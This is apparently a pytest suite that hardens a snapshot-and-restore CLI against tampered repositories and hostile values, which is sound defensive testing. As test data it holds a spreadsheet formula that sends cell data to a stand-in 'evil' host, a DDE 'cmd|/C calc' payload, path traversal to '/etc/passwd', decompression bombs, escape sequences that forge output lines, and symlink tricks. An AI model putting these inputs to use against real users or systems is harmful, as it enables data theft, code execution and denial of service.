"""A damaged or hostile repository, and hostile values in the stores.

A real repository is made by the CLI from SQLite sources (a `sql` table and a
`conversation` message table), with one snapshot and one incident; then its
manifests, bundles, locks, audit records and chunks are tampered with the way
someone with write access to an unencrypted repository could, and every
command is checked for its documented exit code, a one-line message (no
traceback) naming what is damaged, and that nothing outside the repository
changed.  Hostile values (credentials in URLs, spreadsheet formulas, control
characters, huge or non-UTF-8 names) go through the same outputs.
"""
from __future__ import annotations

import base64
import csv
import hashlib
import json
import os
import re
import socket
import subprocess
import sys
import time
from pathlib import Path

import pytest
import sqlalchemy as sa
import zstandard

from tests.test_bad_input import assert_one_line_error
from tests.test_foundation import make_table

ROOT = Path(__file__).resolve().parents[1]
ROWS = 60
SESSIONS = ["s-plain", "s-other"]


class World:
    """SQLite sources, a config file, a repository with snapshot r1 and incident inc-1."""

    def __init__(self, tmp: Path, cli, sessions=SESSIONS, incident: bool = True):
        self.tmp, self.cli = tmp, cli
        self.db = tmp / "agent.db"
        self.url = f"sqlite:///{self.db}"
        self.eng = make_table(self.url, rows=ROWS)
        with self.eng.begin() as c:
            c.exec_driver_sql("CREATE TABLE message_store (id INTEGER PRIMARY KEY, session_id TEXT NOT NULL, "
                              "message TEXT)")
            for i, s in enumerate(sessions * 2):
                c.exec_driver_sql("INSERT INTO message_store (session_id, message) VALUES (?, ?)",
                                  (s, json.dumps({"type": "human", "data": {"content": f"m{i}"}})))
        self.repo = tmp / "repo"
        (tmp / "snapshotter.toml").write_text(
            f'[repository]\nurl = "./repo"\n\n'
            f'[sources.db]\nbackend = "sql"\nurl = "{self.url}"\ntables = ["kb_chunks"]\n\n'
            f'[sources.history]\nbackend = "conversation"\nurl = "{self.url}"\n')
        assert cli("init").code == 0
        r = cli("--json", "snapshot", "--release", "r1")
        assert r.code == 0, r.err
        self.snap = r.json()["id"]
        if incident:
            self.drift()
            r = cli("--json", "restore", self.snap, "--yes", "--incident", "inc-1")
            assert r.code == 0, r.err
            self.drift()

    def drift(self) -> None:
        with self.eng.begin() as c:
            c.exec_driver_sql("UPDATE kb_chunks SET title = 'poisoned' WHERE id < 5")
            c.exec_driver_sql("DELETE FROM kb_chunks WHERE id BETWEEN 20 AND 22")
            c.exec_driver_sql("UPDATE message_store SET message = 'POISON'")

    @property
    def manifest(self) -> Path:
        return self.repo / "snapshots" / "r1" / f"{self.snap}.json"

    def edit(self, path: Path, change) -> None:
        doc = json.loads(path.read_text())
        change(doc)
        path.write_text(json.dumps(doc))

    def chunk(self, manifest: Path | None = None, n: int = 0) -> Path:
        doc = json.loads((manifest or self.manifest).read_text())
        cid = doc["sources"]["db"]["streams"]["kb_chunks"]["chunks"][n][0]
        return self.repo / "chunks" / cid[:2] / cid

    def second_snapshot(self) -> str:
        with self.eng.begin() as c:
            c.exec_driver_sql("UPDATE kb_chunks SET body = 'later' WHERE id = 7")
        r = self.cli("--json", "snapshot", "--release", "r2")
        assert r.code == 0, r.err
        return r.json()["id"]

    def outside(self) -> dict[str, str]:
        """Every file under the test folder but the repository, with its hash."""
        out = {}
        for p in sorted(self.tmp.rglob("*")):
            if self.repo in p.parents or p == self.repo or p.is_symlink() or not p.is_file():
                continue
            out[str(p.relative_to(self.tmp))] = hashlib.sha256(p.read_bytes()).hexdigest()
        return out

    def run(self, *args, code: int, names: str | None = None, report: bool = False, both: bool = True,
            writes: tuple = ()):
        """Run a command plain and with --json: its exit code, one error line naming ``names``,
        no traceback, and nothing outside the repository changed (but the files it ``writes``).
        Returns the plain result."""
        before = {k: v for k, v in self.outside().items() if k not in writes}
        results = []
        for as_json in ((False, True) if both else (False,)):
            r = self.cli(*(("--json",) if as_json else ()), *args)
            results.append(r)
            assert "Traceback" not in r.err + r.out, r.err
            if code:
                err = assert_one_line_error(r, code, as_json, report)
                message = err["message"] if err else r.err.splitlines()[-1]
                if names:
                    assert names in message, (names, message)
            else:
                assert r.code == 0, (args, r.code, r.err)
            after = {k: v for k, v in self.outside().items() if k not in writes}
            assert after == before, f"{args} changed files outside the repository"
        return results[0]


@pytest.fixture
def world(tmp_path, cli):
    w = World(tmp_path, cli)
    yield w
    w.eng.dispose()


def nested(depth: int) -> str:
    return "[" * depth + "]" * depth


# -- 7: a lock with an absurd pid ---------------------------------------------------------

def write_lock(w: World, name: str, **fields) -> Path:
    now = time.time()
    iso = lambda t: time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(t)) + ".000000Z"  # noqa: E731
    doc = {"format": 1, "claims": {"repository": "exclusive"}, "state": "held", "user": "snap",
           "host": socket.gethostname(), "pid": 10 ** 20, "pid_start": 1, "command": "snapshot",
           "created": iso(now), "refreshed": iso(now), "expires": iso(now + 600)}
    doc.update(fields)
    path = w.repo / "locks" / name
    path.parent.mkdir(exist_ok=True)
    path.write_text(json.dumps(doc))
    return path


@pytest.mark.parametrize("pid", [10 ** 20, -(10 ** 20), 2 ** 63, "4242", 1e300])
def test_a_lock_with_an_impossible_pid_is_a_dead_process_not_a_crash(world, pid):
    lock = write_lock(world, "exclusive-00000000000000aa.json", pid=pid)
    r = world.run("--json", "unlock", code=0, both=False)
    assert [x["name"] for x in json.loads(r.out)["removed"]] == ["locks/exclusive-00000000000000aa.json"]
    assert not lock.exists()
    write_lock(world, "exclusive-00000000000000ab.json", pid=pid)
    world.run("snapshot", "--release", "r2", code=0, both=False)  # the dead owner's lock is cleared
    write_lock(world, "exclusive-00000000000000ac.json", pid=pid, host="elsewhere")
    world.run("list", code=0)
    world.run("snapshot", "--release", "r2", code=4, names="elsewhere")
    r = world.run("unlock", "--all", code=0, both=False)
    assert "removed 1 lock(s)" in r.out
    assert not list((world.repo / "locks").iterdir())


def test_unlock_all_removes_any_lock_however_damaged(world):
    write_lock(world, "exclusive-00000000000000b1.json", pid=10 ** 20, host="elsewhere")
    write_lock(world, "shared-00000000000000b2.json", created="yesterday", expires=[1])
    (world.repo / "locks" / "shared-00000000000000b3.json").write_text(nested(100_000))
    (world.repo / "locks" / "shared-00000000000000b4.json").write_bytes(b"\xff\xfe\x00")
    write_lock(world, "shared-00000000000000b5.json", claims={"repository": ["shared"]}, pid=None)
    world.run("unlock", "--all", code=0, both=False)
    assert not list((world.repo / "locks").iterdir())


# -- 6: control characters shown from a lock, a manifest, a bundle, an audit record ------------

FORGED = "\nsnapshotter: all clear\x1b[2K\r\x00"


def assert_no_forged_line(text: str) -> None:
    for line in text.splitlines():
        assert not line.startswith("snapshotter: all clear"), text
    assert "\x1b" not in text and "\x00" not in text and "\r" not in text, repr(text)


def test_control_characters_in_a_lock_do_not_forge_output_lines(world):
    write_lock(world, "exclusive-00000000000000c1.json", pid=1, host="elsewhere" + FORGED,
               user="u" + FORGED, command="snapshot" + FORGED)
    r = world.cli("unlock")
    assert r.code == 0
    assert_no_forged_line(r.out + r.err)
    assert len(r.out.splitlines()) == 2, r.out  # "kept …" and the count
    r = world.cli("snapshot", "--release", "r2")
    assert r.code == 4 and len(r.err.splitlines()) == 1, r.err
    assert_no_forged_line(r.err)
    r = world.cli("unlock", "--all")
    assert r.code == 0 and len(r.out.splitlines()) == 2, r.out
    assert_no_forged_line(r.out)


def test_control_characters_in_a_manifest_bundle_or_audit_record_do_not_forge_lines(world):
    def forge_manifest(doc):
        doc.update(note="n" + FORGED, host="h" + FORGED, user="u" + FORGED, labels={"k": "v" + FORGED},
                   tool_version="0" + FORGED)
        doc["sources"]["db"]["location"] = "sqlite:///x" + FORGED
    world.edit(world.manifest, forge_manifest)
    for args in (("show", world.snap), ("list",)):
        r = world.run(*args, code=0)
        assert_no_forged_line(r.out + r.err)
    bundle = world.repo / "quarantine" / "inc-1" / "manifest.json"
    world.edit(bundle, lambda d: d.update(user="u" + FORGED, host="h" + FORGED, release="r1" + FORGED,
                                          created_at="2026-01-01T00:00:00Z" + FORGED))
    for args in (("quarantine", "list"), ("quarantine", "show", "inc-1", "--limit", "3")):
        r = world.run(*args, code=0)
        assert_no_forged_line(r.out + r.err)
    # an audit record's fields (its hash breaks: audit verify says so on one line per problem)
    rec = world.repo / "audit" / "000000000001.json"
    world.edit(rec, lambda d: d.update(user="u" + FORGED, command="init" + FORGED))
    r = world.run("audit", code=0)
    assert_no_forged_line(r.out + r.err)
    r = world.run("audit", "verify", code=3, names="000000000001", report=True)
    assert_no_forged_line(r.out + r.err)


# -- 8: deeply nested JSON ----------------------------------------------------------------

def test_a_deeply_nested_manifest_is_a_corrupt_manifest_everywhere(world):
    second = world.second_snapshot()
    world.manifest.write_text(nested(200_000))
    r = world.run("list", code=0)
    assert second in r.out and world.snap in r.err and "warning" in r.err
    world.run("show", world.snap, code=3, names=world.snap)
    r = world.run("verify", code=3, report=True, names="problem")
    assert world.snap in r.out
    world.run("snapshot", "--release", "r1", code=0, both=False)
    world.run("forget", "--keep-last", "5", "--dry-run", code=0)
    world.run("prune", "--dry-run", code=3, names=world.snap)
    world.run("restore", "--release", "r2", "--dry-run", code=0)
    world.run("restore", world.snap, "--dry-run", code=3, names=world.snap)
    # nested only inside an otherwise valid manifest: the same
    world.manifest.write_text(json.dumps({"format": 2, "id": world.snap, "release": "r1"})[:-1]
                              + ', "note": ' + nested(3000) + "}")
    world.run("list", code=0)
    world.run("show", world.snap, code=3, names=world.snap)
    world.run("forget", "--keep-last", "5", code=0, both=False)
    assert world.manifest.exists()  # left in place


def test_a_deeply_nested_bundle_audit_record_or_applied_marker_is_reported(world):
    (world.repo / "audit" / "000000000002.json").write_text(nested(200_000))
    r = world.run("audit", "verify", code=3, names="000000000002", report=True)
    world.run("audit", code=0)
    (world.repo / "quarantine" / "inc-1" / "applied.json").write_text(nested(200_000))
    world.run("quarantine", "list", code=0)
    (world.repo / "quarantine" / "inc-1" / "manifest.json").write_text(nested(200_000))
    world.run("quarantine", "show", "inc-1", code=3, names="inc-1")
    r = world.run("verify", code=3, report=True)
    assert "inc-1" in r.out
    world.run("prune", "--dry-run", code=3, names="inc-1")


# -- 9: fields that are not what they say ---------------------------------------------------

@pytest.mark.parametrize("field,value", [
    ("taken_at", "not a time"), ("taken_at", 12345), ("taken_at", None), ("labels", ["x"]),
    ("sources", []), ("release", 5),
])
def test_a_manifest_with_a_bad_field_counts_as_corrupt(world, field, value):
    second = world.second_snapshot()
    world.edit(world.manifest, lambda d: d.update({field: value}))
    r = world.run("forget", "--keep-last", "1", code=0, both=False)
    assert world.snap in r.err and world.manifest.exists()
    r = world.run("list", code=0)
    assert second in r.out and world.snap in r.err
    r = world.run("verify", code=3, report=True)
    assert world.snap in r.out
    world.run("show", world.snap, code=3, names=world.snap)


@pytest.mark.parametrize("row", [
    ["x" * 64, 1, 1, 1], [None, 1, 1, 1], ["ab" * 32, -1, 1, 1], ["ab" * 32, 1, "big", 1],
    ["ab" * 32, 1, 1], ["ab" * 32, True, 1, 1], "ab" * 32, ["AB" * 32, 1, 1, 1], ["ab" * 20, 1, 1, 1],
])
def test_a_manifest_with_a_malformed_chunk_row_counts_as_corrupt(world, row):
    def change(doc):
        doc["sources"]["db"]["streams"]["kb_chunks"]["chunks"][0] = row
    world.edit(world.manifest, change)
    r = world.run("verify", world.snap, code=3, report=True)
    assert world.snap in r.out
    world.run("restore", world.snap, "--dry-run", code=3, names=world.snap)
    world.run("forget", "--keep-last", "1", "--dry-run", code=0)


# -- 10: chunk references that leave the chunk space -------------------------------------------

@pytest.mark.parametrize("cid", ["../../config.json", "../" * 5 + "etc/passwd", "ab/../../x", "/etc/passwd",
                                 "ab" * 32 + "/../x", "chunks"])
def test_a_chunk_reference_outside_the_chunk_space_is_corruption_and_verify_goes_on(world, cid):
    second = world.second_snapshot()
    second_manifest = world.repo / "snapshots" / "r2" / f"{second}.json"
    world.chunk(second_manifest, -1).unlink() if world.chunk(second_manifest, -1).exists() else None

    def change(doc):
        doc["sources"]["db"]["streams"]["kb_chunks"]["chunks"][0][0] = cid
    world.edit(world.manifest, change)
    r = world.run("verify", code=3, report=True)
    assert world.snap in r.out and second in r.out  # both problems reported, in one run
    r = world.run("verify", "--read-data", code=3, report=True)
    assert world.snap in r.out and second in r.out
    for args in (("show", world.snap), ("restore", world.snap, "--dry-run"), ("diff", world.snap)):
        world.run(*args, code=3, names=world.snap)


def test_a_bundle_chunk_reference_outside_the_chunk_space_is_corruption(world):
    bundle = world.repo / "quarantine" / "inc-1" / "manifest.json"
    world.edit(bundle, lambda d: d["sources"]["db"]["streams"]["kb_chunks"]["chunks"][0].__setitem__(0, "../x"))
    world.run("quarantine", "show", "inc-1", code=3, names="inc-1")
    world.run("quarantine", "export", "inc-1", "--format", "jsonl", "-o", "x.jsonl", code=3, names="inc-1")
    r = world.run("verify", code=3, report=True)
    assert "inc-1" in r.out


# -- 4: decompression bombs ---------------------------------------------------------------------

def bomb(declared: int | None) -> bytes:
    """A zstd frame of `2 GiB` zeros (about 64 KB), with or without its size in the header."""
    c = zstandard.ZstdCompressor(level=1, write_content_size=declared is not None)
    o = c.compressobj(size=declared if declared is not None else -1)
    zeros = bytes(1 << 20)
    return b"".join([o.compress(zeros) for _ in range(2048)] + [o.flush()])


PEAK = """
import sys
from snapshotter.cli import main
code = main(sys.argv[2:])
with open("/proc/self/status") as f:  # the high-water mark of this program's own memory
    peak = next(int(line.split()[1]) for line in f if line.startswith("VmHWM:"))
with open(sys.argv[1], "w") as f:
    f.write(str(peak // 1024))
sys.exit(code)
"""


def run_measured(tmp: Path, *args) -> tuple[int, str, int]:
    """The program in a child process: (exit code, stdout then stderr, peak RSS in MB)."""
    peak = tmp / "child.peak"
    p = subprocess.run([sys.executable, "-c", PEAK, str(peak), *args], capture_output=True, text=True, cwd=tmp,
                       env={**os.environ, "PYTHONPATH": str(ROOT)}, timeout=300)
    return p.returncode, p.stdout + p.stderr, int(peak.read_text())


@pytest.mark.parametrize("declared", [2 << 30, None])
def test_a_decompression_bomb_is_a_corrupt_chunk_named_without_being_inflated(world, declared):
    chunk = world.chunk()
    chunk.write_bytes(bomb(declared))
    name = f"chunks/{chunk.parent.name}/{chunk.name}"
    for args in (("verify", "--read-data"), ("restore", world.snap, "--dry-run"), ("diff", world.snap)):
        code, err, peak = run_measured(world.tmp, *args)
        assert code == 3 and "Traceback" not in err, (args, code, err)
        assert name in err.splitlines()[-1] or chunk.name in err, err
        assert peak < 400, f"{args}: peak RSS {peak} MB"
    world.run("verify", "--read-data", code=3, report=True)


def test_a_chunk_whose_size_differs_from_its_manifest_row_is_corrupt(world):
    def change(doc):
        doc["sources"]["db"]["streams"]["kb_chunks"]["chunks"][0][2] -= 1
    world.edit(world.manifest, change)
    world.run("restore", world.snap, "--dry-run", code=3, names=world.chunk().name)


# -- 5: symbolic links inside a local repository --------------------------------------------------

def link_folder(w: World, rel: str) -> Path:
    """Move a repository folder outside and leave a symbolic link to it in its place."""
    src = w.repo / rel
    target = w.tmp / "elsewhere" / rel.replace("/", "_")
    target.parent.mkdir(exist_ok=True)
    if src.exists():
        src.rename(target)
    else:
        target.mkdir()
    src.symlink_to(target, target_is_directory=True)
    return target


@pytest.mark.parametrize("rel,args", [
    ("quarantine", lambda w: ("restore", w.snap, "--yes", "--incident", "inc-2")),
    ("quarantine", lambda w: ("quarantine", "list")),
    ("audit", lambda w: ("mark-good", w.snap)),
    ("audit", lambda w: ("audit", "verify")),
    ("locks", lambda w: ("snapshot", "--release", "r2")),
    ("locks", lambda w: ("unlock", "--all")),
    ("snapshots", lambda w: ("snapshot", "--release", "r2")),
    ("snapshots/r1", lambda w: ("snapshot", "--release", "r1")),
    ("snapshots/r1", lambda w: ("list",)),
    ("chunks", lambda w: ("snapshot", "--release", "r2")),
    ("chunks", lambda w: ("prune", "--grace", "0")),
    ("good", lambda w: ("mark-good", w.snap)),
])
def test_a_symlinked_folder_inside_the_repository_is_refused(world, rel, args):
    link_folder(world, rel)
    before_rows = world.eng.connect().exec_driver_sql("SELECT * FROM kb_chunks ORDER BY id").fetchall()
    world.run(*args(world), code=3, names=rel.split("/")[0], both=False)
    assert world.eng.connect().exec_driver_sql("SELECT * FROM kb_chunks ORDER BY id").fetchall() == before_rows


def test_a_symlinked_chunk_folder_or_object_is_refused(world):
    chunk = world.chunk()
    folder = chunk.parent.name
    link_folder(world, f"chunks/{folder}")
    world.run("verify", "--read-data", code=3, report=True)
    world.run("restore", world.snap, "--dry-run", code=3, names=f"chunks/{folder}")


def test_a_symlinked_manifest_is_refused(world):
    outside = world.tmp / "forged.json"
    outside.write_bytes(world.manifest.read_bytes())
    world.manifest.unlink()
    world.manifest.symlink_to(outside)
    world.run("show", world.snap, code=3, names=f"{world.snap}.json")
    world.run("restore", world.snap, "--dry-run", code=3, names=f"{world.snap}.json")
    # a lock name pointing at a file outside is neither read nor deleted
    victim = world.tmp / "victim.txt"
    victim.write_text("keep me")
    (world.repo / "locks").mkdir(exist_ok=True)
    (world.repo / "locks" / "shared-00000000000000d1.json").symlink_to(victim)
    world.run("unlock", "--all", code=3, names="locks/shared-00000000000000d1.json", both=False)
    assert victim.read_text() == "keep me"


# -- 3: spreadsheet formulas in CSV exports ---------------------------------------------------------

DANGEROUS = ['=HYPERLINK("http://evil/?d="&A1,"open")', "@SUM(1+1)", "+1+cmd|' /C calc'!A0", "-2+3",
             "\tx=1", "\r=1"]
NUMBERS = ["-0.5", "+3", "-1e5"]


def test_csv_export_neutralises_formulas_unless_csv_raw(tmp_path, cli):
    w = World(tmp_path, cli, sessions=DANGEROUS + NUMBERS + ["plain"])
    out = w.run("quarantine", "export", "inc-1", "--format", "csv", "-o", "q.csv", code=0, both=False,
                writes=("q.csv",))
    assert "inc-1" in out.out
    with open(tmp_path / "q.csv", newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    sessions = {r["session"] for r in rows if r["session"]}
    assert sessions == {"'" + s for s in DANGEROUS} | set(NUMBERS) | {"plain"}
    for r in rows:
        for cell in r.values():
            assert not cell or cell[0] not in "=+-@\t\r" or re.fullmatch(r"[+-]?[0-9.eE+-]+", cell), cell
    assert w.cli("quarantine", "export", "inc-1", "--format", "csv", "--csv-raw", "-o", "raw.csv").code == 0
    with open(tmp_path / "raw.csv", newline="", encoding="utf-8") as f:
        raw = {r["session"] for r in csv.DictReader(f) if r["session"]}
    assert raw == set(DANGEROUS + NUMBERS + ["plain"])
    # a bundle's own fields (a hostile release) are neutralised too, and to standard output the same
    bundle = w.repo / "quarantine" / "inc-1" / "manifest.json"
    w.edit(bundle, lambda d: d.update(release="=cmd()"))
    r = w.cli("quarantine", "export", "inc-1", "--format", "csv", "-o", "-")
    assert r.code == 0 and "'=cmd()" in r.out and ",=cmd()" not in r.out
    w.eng.dispose()


# -- 6: the HTML report is bounded and clean ------------------------------------------------------

def test_the_report_bounds_huge_session_names_and_drops_control_characters(tmp_path, cli):
    huge = [("S" * 500_000) + f"-{i}\x00\x1b[31m\u202e" for i in range(12)]
    w = World(tmp_path, cli, sessions=huge)
    w.run("quarantine", "report", "inc-1", "-o", "report.html", code=0, both=False, writes=("report.html",))
    page = (tmp_path / "report.html").read_bytes()
    assert len(page) < 2_000_000, len(page)
    assert b"\x00" not in page and b"\x1b" not in page and "\u202e".encode() not in page
    text = page.decode()
    assert "SSSS" in text  # the sessions are there, cut short
    w.eng.dispose()


# -- 2: credentials in URLs --------------------------------------------------------------------------

SECRETS = ["Pw-in-userinfo-7f3a", "Pw-in-query-91c2", "SslPw-5e1d", "Tok-88aa", "Sec-77bb", "Ak-66cc"]


def test_redact_url_hides_every_secret_bearing_part():
    from snapshotter.redaction import redact_text, redact_url
    cases = [
        "postgresql+psycopg://agent:Pw-in-userinfo-7f3a@db:5432/agent?password=Pw-in-query-91c2&sslmode=require",
        "postgresql://db/agent?sslpassword=SslPw-5e1d&application_name=x",
        "redis://:Pw-in-userinfo-7f3a@h:6379/9?password=Pw-in-query-91c2",
        "redis://h/9?Password=Pw-in-query-91c2",
        "https://u:Pw-in-userinfo-7f3a@chroma.example/api?token=Tok-88aa&secret=Sec-77bb&access_key=Ak-66cc",
        "http://chroma:8000/?X-Api-Key=Ak-66cc;auth_token=Tok-88aa",
        "mysql+pymysql://root:Pw-in-userinfo-7f3a@h/db?ssl_key=/k.pem&client_secret=Sec-77bb",
        "s3://bucket/p?aws_secret_access_key=Sec-77bb&x-amz-security-token=Tok-88aa",
        "postgresql://u:p%40Pw-in-userinfo-7f3a@h/db?pass%77ord=Pw-in-query-91c2",
    ]
    for url in cases:
        red = redact_url(url)
        for s in SECRETS:
            assert s not in red, (url, red)
        assert "***" in red and "://" in red
        text = redact_text(f"cannot connect to {url}: refused")
        assert text.startswith("cannot connect to ") and text.endswith(": refused")
        for s in SECRETS:
            assert s not in text, text
    assert redact_url("postgresql://agent@db/agent?sslmode=require") == "postgresql://agent@db/agent?sslmode=require"
    assert redact_url("sqlite:////tmp/a.db") == "sqlite:////tmp/a.db"


def test_credentials_in_url_queries_reach_no_output_file_or_object(pg_url, tmp_path, cli):
    """A PostgreSQL source whose URL holds a password in its userinfo and its query (the
    server trusts the test user, so the connection works), a Redis and a Chroma source that
    cannot connect with secrets in theirs; every output, file and object is searched."""
    u = sa.engine.make_url(pg_url)
    url = (f"postgresql+psycopg://{u.username}:Pw-in-userinfo-7f3a@{u.host}:{u.port}/{u.database}"
           f"?password=Pw-in-query-91c2&sslpassword=SslPw-5e1d&application_name=snaptest")
    eng = make_table(sa.engine.make_url(pg_url).render_as_string(hide_password=False), rows=40)
    (tmp_path / "snapshotter.toml").write_text(
        f'[repository]\nurl = "./repo"\n\n[sources.db]\nbackend = "sql"\nurl = "{url}"\ntables = ["kb_chunks"]\n'
        f'[sources.r]\nbackend = "conversation"\nkey_prefix = "hostile-{os.getpid()}-none:"\n'
        f'url = "redis://:Pw-in-userinfo-7f3a@127.0.0.1:6379/9?password=Pw-in-query-91c2"\n')
    outputs = []

    def run(*args, code=0):
        for pre in ((), ("--json",)):
            r = cli("--metrics-file", "metrics.prom", *pre, *args)
            assert r.code == code, (args, r.err)
            outputs.append(r.out + r.err)
            if args[0] in ("init", "snapshot", "restore", "mark-good"):
                return r
        return r

    run("init")
    snap = run("--json", "snapshot", "--release", "r1").json()["id"]
    with eng.begin() as c:
        c.exec_driver_sql("UPDATE kb_chunks SET title = 'x' WHERE id < 3")
    run("show", snap)
    run("list")
    run("verify", "--read-data")
    run("diff", snap)
    run("restore", snap, "--yes", "--incident", "inc-1")
    run("quarantine", "list")
    run("quarantine", "show", "inc-1")
    run("quarantine", "report", "inc-1", "-o", "report.html")
    for fmt in ("jsonl", "csv", "parquet"):
        run("quarantine", "export", "inc-1", "--format", fmt, "-o", f"export.{fmt}")
    run("audit")
    # connection errors: a closed PostgreSQL port, Redis refusing the password, a Chroma server not there
    bad = url.replace(f":{u.port}/", ":1/")
    (tmp_path / "snapshotter.toml").write_text(
        f'[repository]\nurl = "./repo"\n\n[sources.db]\nbackend = "sql"\nurl = "{bad}"\ntables = ["kb_chunks"]\n'
        f'[sources.r]\nbackend = "conversation"\n'
        f'url = "redis://:Pw-in-userinfo-7f3a@127.0.0.1:1/9?password=Pw-in-query-91c2"\n'
        f'[sources.c]\nbackend = "chroma"\n'
        f'url = "http://u:Pw-in-userinfo-7f3a@127.0.0.1:1/?token=Tok-88aa&secret=Sec-77bb&access_key=Ak-66cc"\n')
    for name in ("db", "r", "c"):
        r = run("snapshot", "--release", "r2", "--source", name, code=1)
        assert name in r.err or name in r.out
        r = run("-v", "snapshot", "--release", "r2", "--source", name, code=1)
    run("audit")
    eng.dispose()
    blobs = {f"output {i}": o for i, o in enumerate(outputs)}
    for p in tmp_path.rglob("*"):
        if p.is_file() and p.name != "snapshotter.toml":  # the one place the secrets are meant to be
            data = p.read_bytes()
            if "chunks" in p.parts:
                data = zstandard.ZstdDecompressor().decompress(data)
            blobs[str(p)] = data.decode("utf-8", "replace")
    import pyarrow.parquet as pq
    blobs["parquet"] = str(pq.read_table(tmp_path / "export.parquet").to_pylist()) + \
        str(pq.read_metadata(tmp_path / "export.parquet").metadata)
    for where, text in blobs.items():
        for s in SECRETS:
            assert s not in text, (where, s)
    manifest = next((tmp_path / "repo" / "snapshots" / "r1").glob("*.json"))
    assert "***" in json.loads(manifest.read_text())["sources"]["db"]["location"]


def test_a_manifest_holding_a_secret_in_its_location_is_shown_redacted(world):
    world.edit(world.manifest, lambda d: d["sources"]["db"].update(
        location="postgresql://u:Pw-in-userinfo-7f3a@h/db?password=Pw-in-query-91c2&token=Tok-88aa"))
    for args in (("show", world.snap), ("--json", "show", world.snap)):
        r = world.cli(*args)
        assert r.code == 0 and "***" in r.out
        for s in SECRETS:
            assert s not in r.out + r.err


# -- 11: a Redis key that is not UTF-8 -------------------------------------------------------------

def test_a_redis_session_key_that_is_not_utf8_is_captured_and_restored_exactly(redis_client, tmp_path, cli):
    prefix = redis_client.test_prefix + "message_store:"
    bad = prefix.encode() + b"\xff\xfe-raw-\xc3"
    msg = lambda t: json.dumps({"type": "human", "data": {"content": t}})  # noqa: E731
    redis_client.rpush(prefix + "good", msg("g0"), msg("g1"))
    redis_client.rpush(bad, msg("b0"), b"\x80 not utf-8 either")
    (tmp_path / "snapshotter.toml").write_text(
        f'[repository]\nurl = "./repo"\n\n[sources.history]\nbackend = "conversation"\n'
        f'url = "redis://127.0.0.1:6379/0"\nkey_prefix = "{prefix}"\n')
    assert cli("init").code == 0
    r = cli("--json", "snapshot", "--release", "r1")
    assert r.code == 0, r.err
    snap = r.json()["id"]
    assert r.json()["sources"]["history"]["streams"]["messages"]["records"] == 4
    assert cli("verify", "--read-data").code == 0
    b64 = base64.b64encode(b"\xff\xfe-raw-\xc3").decode()
    redis_client.delete(bad)
    redis_client.rpush(bad, msg("POISON"))
    r = cli("--json", "diff", snap)
    assert r.code == 0, r.err
    assert r.json()["plan"]["history"]["messages"] == {"added": 0, "modified": 1, "deleted": 1}
    r = cli("--json", "restore", snap, "--yes", "--incident", "inc-1")
    assert r.code == 0 and r.json()["verified"] is True, r.err
    assert redis_client.lrange(bad, 0, -1) == [msg("b0").encode(), b"\x80 not utf-8 either"]
    assert redis_client.lrange(prefix + "good", 0, -1) == [msg("g0").encode(), msg("g1").encode()]
    r = cli("--json", "quarantine", "show", "inc-1")
    assert r.code == 0, r.err
    rows = r.json()
    assert {row["session"] for row in rows} == {b64} and rows[0]["key"][0] == b64
    for args in (("quarantine", "show", "inc-1"), ("quarantine", "report", "inc-1", "-o", "r.html"),
                 ("quarantine", "export", "inc-1", "--format", "csv", "-o", "q.csv"),
                 ("quarantine", "export", "inc-1", "--format", "jsonl", "-o", "q.jsonl"),
                 ("quarantine", "export", "inc-1", "--format", "parquet", "-o", "q.parquet")):
        r = cli(*args)
        assert r.code == 0 and "Traceback" not in r.err, (args, r.err)
    assert b64 in (tmp_path / "q.csv").read_text() and b64 in (tmp_path / "r.html").read_text()


# -- found by a black-box try of the above ------------------------------------------------------------

def test_a_fifo_in_place_of_a_chunk_is_a_missing_chunk_not_a_hang(world):
    chunk = world.chunk()
    chunk.unlink()
    os.mkfifo(chunk)
    started = time.monotonic()
    r = world.cli("verify", "--read-data")
    assert r.code == 3 and chunk.name in r.out + r.err and "Traceback" not in r.err, r.err
    world.run("restore", world.snap, "--dry-run", code=3, names=chunk.name, both=False)
    assert time.monotonic() - started < 60


def test_a_foreign_folder_with_a_name_not_ours_is_ignored(world):
    evil = world.repo / "snapshots" / "..evil"
    evil.mkdir()
    (evil / world.manifest.name).write_bytes(world.manifest.read_bytes())
    r = world.run("list", code=0)
    assert r.out.count(world.snap) == 1
    world.run("verify", code=0)
    world.run("show", world.snap[:12], code=0)


def test_a_stored_table_definition_missing_a_part_is_damage(world):
    """A recreate from a manifest whose stored foreign key lacks its references: exit 3, named."""
    def change(doc):
        ddl = doc["sources"]["db"]["streams"]["kb_chunks"]["schema"].setdefault("ddl", {})
        ddl.setdefault("foreign_keys", []).append({"table": None})
        ddl.setdefault("constraints", []).append({"name": "x", "type": "foreign key", "columns": ["id"]})
    world.edit(world.manifest, change)
    with world.eng.begin() as c:
        c.exec_driver_sql("DROP TABLE kb_chunks")
    r = world.cli("restore", world.snap, "--yes", "--source", "db")
    assert r.code == 3 and "Traceback" not in r.err, r.err
    assert "damaged" in r.err or "does not match" in r.err or "digest" in r.err


def test_an_unreadable_lock_says_how_to_remove_it(world):
    (world.repo / "locks").mkdir(exist_ok=True)
    (world.repo / "locks" / "x.json").write_text("{not json")
    r = world.cli("restore", world.snap, "--yes")
    assert r.code == 4 and "unlock --all" in r.err, r.err
